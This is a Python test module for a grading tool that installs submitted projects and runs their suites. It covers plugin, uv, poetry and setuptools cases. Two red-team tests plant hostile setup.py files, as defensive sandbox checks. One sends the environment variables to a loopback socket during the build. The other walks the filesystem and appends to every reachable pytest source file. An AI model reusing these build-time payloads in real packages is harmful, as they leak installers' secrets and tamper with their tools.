"""The grader installs a submission the way its own README does, and runs its suite the way it says.

Small real projects written for these tests (never fetched code), each a git repository graded by the real
`grade` CLI with real installs from the package index: a plugin package whose tests need its own entry
point, a uv project with a uv.lock whose `make test` is `uv run pytest`, a poetry project whose test
dependency is only in its dev group, and a project asking for a Python this machine may not have.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import tempfile
import textwrap
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

from grader import install
from grader.interpreters import _available as available

pytestmark = [pytest.mark.slow, pytest.mark.index]  # installs from the package index


@pytest.fixture(scope="module")
def area() -> Iterator[Path]:
    """World-traversable (as root the sandbox runs as `nobody`, which cannot enter pytest's 0700 tmp_path);
    one environment cache for the module's grades."""
    path = Path(tempfile.mkdtemp(prefix="install-readme-"))
    path.chmod(0o755)
    yield path
    shutil.rmtree(path, ignore_errors=True)


def _repo(area: Path, name: str, files: Mapping[str, str], before_commit: list[list[str]] = ()) -> Path:
    repo = area / name
    repo.mkdir()
    for rel, text in files.items():
        path = repo / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text).lstrip("\n"), encoding="utf-8")
    for argv in before_commit:
        subprocess.run(argv, cwd=repo, check=True, capture_output=True, env=_uv_env(area))
    for argv in (
        ["git", "init", "-q", "-b", "main"],
        ["git", "add", "-A"],
        ["git", "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "work"],
    ):
        subprocess.run(argv, cwd=repo, check=True, capture_output=True)
    return repo


def _uv_env(area: Path) -> dict[str, str]:
    return {**os.environ, "UV_CACHE_DIR": str(area / "hand-uv-cache"), "UV_PYTHON_DOWNLOADS": "never"}


def _uv() -> str:
    uv = install._uv_bin()
    if uv is None:
        pytest.skip("uv is not available")
    return uv


def _grade(grade_cli, area: Path, repo: Path) -> tuple[dict, dict, list[str]]:
    """(the replay facts, the offline-replay row, its details) of a real `grade` of ``repo``."""
    out = area / f"{repo.name}.json"
    done = grade_cli(
        [str(repo), "--cache-dir", str(area / "cache"), "--format", "json", "-o", str(out), "-q"], cwd=area
    )
    assert done.returncode in (0, 3), done.stderr
    report = json.loads(out.read_text())
    row = next(r for r in report["rows"] if r["id"] == "offline-replay")
    return report["facts"]["replay"], row, row.get("details") or []


def _line(details: list[str], prefix: str) -> str:
    found = [d for d in details if d.startswith(prefix)]
    assert found, f"no {prefix!r} line in {details}"
    return found[0]


# (a) a plugin package: its models are found through its own entry point ----------------------------------

_PLUGIN = {
    "pyproject.toml": """
        [build-system]
        requires = ["hatchling"]
        build-backend = "hatchling.build"

        [project]
        name = "tapeplug"
        version = "0.1.0"
        requires-python = ">=3.10"
        dependencies = ["httpx>=0.27"]

        [project.optional-dependencies]
        test = ["pytest", "vcrpy>=6"]

        [project.entry-points."tapeplug.models"]
        echo = "tapeplug.models:EchoModel"
        """,
    "src/tapeplug/__init__.py": """
        from importlib.metadata import entry_points


        def get_model(name):
            for entry in entry_points(group="tapeplug.models"):
                if entry.name == name:
                    return entry.load()()
            raise LookupError(f"unknown model {name!r}: is tapeplug installed?")
        """,
    "src/tapeplug/models.py": """
        import httpx


        class EchoModel:
            def complete(self, prompt):
                response = httpx.post("https://api.example.test/v1/echo", json={"prompt": prompt})
                response.raise_for_status()
                return response.json()["text"]
        """,
    "tests/test_models.py": """
        import vcr

        import tapeplug


        def test_the_plugin_is_registered():
            assert type(tapeplug.get_model("echo")).__name__ == "EchoModel"


        @vcr.use_cassette("tests/cassettes/echo.yaml", record_mode="none")
        def test_echo_replays_its_cassette():
            assert tapeplug.get_model("echo").complete("hi") == "hello"
        """,
    "tests/cassettes/echo.yaml": """
        interactions:
        - request:
            body: '{"prompt": "hi"}'
            headers: {}
            method: POST
            uri: https://api.example.test/v1/echo
          response:
            body:
              string: '{"text": "hello"}'
            headers:
              Content-Type:
              - application/json
            status:
              code: 200
              message: OK
        version: 1
        """,
    "README.md": """
        # tapeplug

        ```
        pip install -e '.[test]'
        pytest
        ```
        """,
}


def _by_hand(area: Path, repo: Path, *, editable: bool) -> subprocess.CompletedProcess[str]:
    """What a reviewer does: a venv, the README's install, then pytest with no network (`unshare -n`)."""
    uv, env = _uv(), _uv_env(area)
    venv = area / f"{repo.name}-hand-venv"
    shutil.rmtree(venv, ignore_errors=True)
    subprocess.run([uv, "venv", "-q", str(venv)], env=env, check=True, capture_output=True)
    python = str(venv / "bin" / "python")
    if editable:
        argv = [uv, "pip", "install", "-q", "--python", python, "-e", f"{repo}[test]"]
    else:  # the dependencies alone, the code on PYTHONPATH: what the grader did before
        argv = [uv, "pip", "install", "-q", "--python", python, "httpx", "pytest", "vcrpy"]
    subprocess.run(argv, env=env, check=True, capture_output=True)
    run_env = {**os.environ, **({} if editable else {"PYTHONPATH": str(repo / "src")})}
    prefix = ["unshare", "-n"] if shutil.which("unshare") and os.geteuid() == 0 else []
    return subprocess.run(
        [*prefix, python, "-m", "pytest", "-q", "-p", "no:cacheprovider"],
        cwd=repo,
        env=run_env,
        capture_output=True,
        text=True,
        check=False,
    )


def test_a_plugin_package_is_installed_editable_so_its_entry_point_is_registered(area, grade_cli):
    repo = _repo(area, "tapeplug", _PLUGIN)
    by_hand = _by_hand(area, repo, editable=True)
    assert "2 passed" in by_hand.stdout, by_hand.stdout + by_hand.stderr
    # Control: without the package installed its entry point is not registered, and the suite fails.
    without = _by_hand(area, repo, editable=False)
    assert "2 failed" in without.stdout, without.stdout + without.stderr
    assert "unknown model 'echo': is tapeplug installed?" in without.stdout

    facts, row, details = _grade(grade_cli, area, repo)
    assert (facts["passed"], facts["failed"], facts["errors"]) == (2, 0, 0), details
    assert row["score"] == row["max"], row
    project = _line(details, "project: ")
    assert "tapeplug installed editable" in project and "imported from src" in project
    assert "extras test" in _line(details, "dependencies: ")
    assert _line(details, "suite: ") == "suite: python -m pytest (the README's `pytest`, README.md:5)"


# (b) a uv project: uv.lock pins, `make test` is `uv run pytest` ------------------------------------------


def test_a_uv_project_gets_its_locked_versions_and_its_make_test_run_offline(area, grade_cli):
    uv = _uv()
    files = {
        "pyproject.toml": """
            [project]
            name = "uvp"
            version = "0.1.0"
            requires-python = ">=3.10"
            dependencies = ["tomli-w>=1.0"]

            [dependency-groups]
            dev = ["pytest>=8"]
            """,
        "Makefile": "test:\n\tuv run pytest -q\n",
        "tests/test_lock.py": """
            from importlib.metadata import version

            import tomli_w


            def test_the_locked_version_is_installed():
                assert version("tomli-w") == "1.0.0"


            def test_it_works():
                assert tomli_w.dumps({"a": 1}) == "a = 1\\n"
            """,
    }
    # A real uv.lock, locking tomli-w below its newest release (which the declaration alone would get).
    repo = _repo(area, "uvp", files, [[uv, "lock", "-q"], [uv, "lock", "-q", "-P", "tomli-w==1.0.0"]])
    assert 'name = "tomli-w"\nversion = "1.0.0"' in (repo / "uv.lock").read_text()

    facts, _row, details = _grade(grade_cli, area, repo)
    assert (facts["passed"], facts["failed"], facts["errors"]) == (2, 0, 0), details
    assert facts["command"] == "python -m pytest -q"
    assert "pinned by uv.lock" in _line(details, "dependencies: ")
    assert "pinned by uv.lock honoured" in _line(details, "lockfile: ")
    assert "uvp itself not installed: it declares no entry points" in _line(details, "project: ")
    suite = _line(details, "suite: ")
    assert "Makefile:1: `make test` runs `uv run pytest -q`" in suite
    assert "ran `python -m pytest -q` with the installed interpreter instead" in suite
    report = json.loads((area / "uvp.json").read_text())
    make = next(r for r in report["rows"] if r["id"] == "make-targets")
    assert "test not run as `make test` (the suite ran as `python -m pytest -q`)" in make["evidence"]


# (c) a poetry project: the test dependency only in [tool.poetry.group.dev.dependencies] -----------------

_POETRY = {
    "pyproject.toml": """
        [tool.poetry]
        name = "poetic"
        version = "0.1.0"
        description = "a poetry project"
        authors = ["A <a@example.test>"]

        [tool.poetry.scripts]
        poetic = "poetic:main"

        [tool.poetry.dependencies]
        python = "^3.10"

        [tool.poetry.group.dev.dependencies]
        pytest = "^8.0"
        tomli-w = "^1.0"

        [build-system]
        requires = ["poetry-core>=1.0.0"]
        build-backend = "poetry.core.masonry.api"
        """,
    "poetic/__init__.py": """
        def main():
            print(dump({"a": 1}))


        def dump(data):
            import tomli_w

            return tomli_w.dumps(data)
        """,
    "tests/test_dump.py": """
        from importlib.metadata import version

        import poetic


        def test_dump_uses_the_dev_dependency():
            assert poetic.dump({"a": 1}) == "a = 1\\n"


        def test_the_locked_version_and_the_package_itself_are_installed():
            assert version("tomli-w") == "1.0.0"
            assert version("poetic") == "0.1.0"
        """,
    # poetry.lock's format (poetry 2): what the grader reads of it is each package's name and version.
    "poetry.lock": """
        # This file is automatically @generated by Poetry and should not be changed by hand.

        [[package]]
        name = "pytest"
        version = "8.3.4"
        description = "pytest: simple powerful testing with Python"
        optional = false
        python-versions = ">=3.8"
        groups = ["dev"]
        files = []

        [[package]]
        name = "tomli-w"
        version = "1.0.0"
        description = "A lil' TOML writer"
        optional = false
        python-versions = ">=3.7"
        groups = ["dev"]
        files = []

        [metadata]
        lock-version = "2.1"
        python-versions = "^3.10"
        content-hash = "0000"
        """,
    "Makefile": "test:\n\tpoetry run pytest\n",
}


def test_a_poetry_projects_dev_group_is_installed_at_its_locked_versions(area, grade_cli):
    repo = _repo(area, "poetic", _POETRY)
    facts, _row, details = _grade(grade_cli, area, repo)
    assert (facts["passed"], facts["failed"], facts["errors"]) == (2, 0, 0), details
    deps = _line(details, "dependencies: ")
    assert "[tool.poetry.group.dev.dependencies]" in deps and "pinned by poetry.lock" in deps
    assert "poetic installed editable" in _line(details, "project: ")
    assert "`make test` runs `poetry run pytest`" in _line(details, "suite: ")
    # The grader's pytest replaces the submission's, and the report says so.
    assert any("the grader runs its pinned pytest" in d for d in details)


# (d) requires-python this machine may not satisfy ---------------------------------------------------------


def test_a_requires_python_the_machine_cannot_satisfy_is_said_in_the_evidence(area, grade_cli):
    files = dict(_PLUGIN)
    files["pyproject.toml"] = files["pyproject.toml"].replace('">=3.10"', '">=3.13"')
    repo = _repo(area, "newpy", files)
    facts, _row, details = _grade(grade_cli, area, repo)
    assert (facts["passed"], facts["failed"], facts["errors"]) == (2, 0, 0), details
    python = _line(details, "python: ")
    newer = [version for _, version in available(install._base_python(), install._uv_bin())]
    if any(tuple(map(int, v.split(".")[:2])) >= (3, 13) for v in newer):
        assert "satisfies requires-python >=3.13 (pyproject.toml:8)" in python
    else:
        assert "no interpreter on this machine the sandbox can run satisfies requires-python >=3.13" in python
        assert f"the suite ran on {newer[0]} instead" in python
    assert "tapeplug installed editable" in _line(details, "project: ")


# (e) a build backend without editable installs: a regular install, its copied code removed -----------------


def test_a_backend_without_editable_support_gets_a_regular_install_without_its_code(area):
    repo = _repo(
        area,
        "oldst",
        {
            "pyproject.toml": """
                [build-system]
                requires = ["setuptools<64", "wheel"]
                build-backend = "setuptools.build_meta"

                [project]
                name = "oldst"
                version = "0.1.0"

                [project.entry-points."oldst.plugins"]
                one = "oldst:One"

                [tool.setuptools]
                packages = ["oldst"]
                """,
            "oldst/__init__.py": "class One:\n    pass\n",
        },
    )
    env = install.ensure_env(repo, cache_root=area / "cache", timeout=300)
    assert env.project.startswith("oldst installed with a regular install: the editable build failed")
    site = next(env.venv.glob("lib/python3*/site-packages"))
    assert sorted(p.name for p in site.iterdir() if "oldst" in p.name) == ["oldst-0.1.0.dist-info"]
    # The entry point comes from the install, the code it names from the tree.
    probe = "from importlib.metadata import entry_points as e; print(e(group='oldst.plugins')['one'].load())"
    done = subprocess.run(
        [str(env.python), "-c", probe],
        env={**os.environ, "PYTHONPATH": str(repo)},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.stdout.strip() == "<class 'oldst.One'>", done.stderr


# (e) the project's own build runs its code: never with the network (red-team R1) ---------------------------


def test_the_projects_own_build_runs_without_the_network_and_its_backend_is_removed_after(area):
    """A `setup.py` that phones a service on the host's loopback while it builds: no connection arrives,
    and the package is still installed editable (its backend came from the index as wheels beforehand)."""
    import socket
    import threading

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    calls: list[bytes] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            with conn:
                calls.append(conn.recv(4096))

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    setup = f"""
        import os, socket
        from setuptools import setup
        try:
            with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
                s.sendall(repr(dict(os.environ)).encode())
        except OSError:
            pass
        setup(name="phonehome", version="0.1.0", packages=["phonehome"],
              entry_points={{"phonehome.plugins": ["one = phonehome:One"]}})
    """
    repo = _repo(
        area,
        "phonehome",
        {
            "pyproject.toml": """
                [build-system]
                requires = ["setuptools>=64"]
                build-backend = "setuptools.build_meta"
                """,
            "setup.py": setup,
            "phonehome/__init__.py": "class One:\n    pass\n",
        },
    )
    try:
        env = install.ensure_env(repo, cache_root=area / "cache", timeout=300)
    finally:
        stop.set()
        thread.join(timeout=5)
        listener.close()
    assert calls == [], "the build reached the host's loopback"
    assert "installed editable" in env.project, env.project
    site = next(env.venv.glob("lib/python3*/site-packages"))
    names = {p.name.split("-", 1)[0].lower() for p in site.iterdir() if p.name.endswith(".dist-info")}
    assert "phonehome" in names
    # The backend served the build and left: the suite runs with the submission's dependencies only.
    assert "setuptools" not in names and "wheel" not in names, sorted(names)


_FIND_PYTEST = """
    import os
    def _pytest_files():
        seen = set()
        for line in open("/proc/self/mountinfo"):
            top = line.split()[4]
            for root, dirs, files in os.walk(top):
                if root.count(os.sep) - top.count(os.sep) > 7 or root.startswith(("/proc", "/sys", "/dev")):
                    dirs[:] = []
                    continue
                if root.endswith(os.sep + "_pytest") and "python.py" in files:
                    path = os.path.join(root, "python.py")
                    if path not in seen:
                        seen.add(path)
                        yield path
    for path in _pytest_files():
        try:
            with open(path, "a") as handle:
                handle.write("\\n# patched by the submission's setup.py\\n")
        except OSError:
            pass
"""


def test_the_projects_own_build_cannot_write_the_venv_the_suite_runs_in(area):
    """Red-team R2: a setup.py that looks for every pytest it can reach and appends to it. The suite's
    venv keeps the grader's pinned pytest as installed; the project still gets its metadata."""
    setup = (
        textwrap.dedent(_FIND_PYTEST)
        + 'from setuptools import setup\nsetup(name="patcher", version="0.1.0", packages=["patcher"],\n'
        + '      entry_points={"patcher.plugins": ["one = patcher:One"]})\n'
    )
    repo = _repo(
        area,
        "patcher",
        {
            "pyproject.toml": (
                '[build-system]\nrequires = ["setuptools>=64"]\nbuild-backend = "setuptools.build_meta"\n'
            ),
            "patcher/__init__.py": "class One:\n    pass\n",
        },
    )
    (repo / "setup.py").write_text(setup, encoding="utf-8")
    subprocess.run(["git", "add", "-A"], cwd=repo, check=True)
    subprocess.run(
        ["git", "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "setup"], cwd=repo, check=True
    )
    env = install.ensure_env(repo, cache_root=area / "cache", timeout=300)
    assert "installed editable" in env.project, env.project
    site = next(env.venv.glob("lib/python3*/site-packages"))
    assert "patched by the submission" not in (site / "_pytest" / "python.py").read_text()
    probe = (
        "from importlib.metadata import entry_points as e; print(e(group='patcher.plugins')['one'].load())"
    )
    done = subprocess.run(
        [str(env.python), "-c", probe],
        env={**os.environ, "PYTHONPATH": str(repo)},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.stdout.strip() == "<class 'patcher.One'>", done.stderr
